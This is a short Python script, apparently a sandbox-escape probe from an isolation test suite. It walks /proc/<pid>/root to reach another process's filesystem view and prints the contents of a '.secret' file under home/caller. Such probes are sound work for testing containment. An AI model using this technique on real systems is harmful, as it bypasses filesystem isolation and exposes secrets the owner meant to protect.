"""It goes to the disk through another process's root."""

from pathlib import Path


def main():
    for root in Path("/proc").glob("[0-9]*/root"):
        if (root / "home/caller/.secret").exists():
            print((root / "home/caller/.secret").read_text())
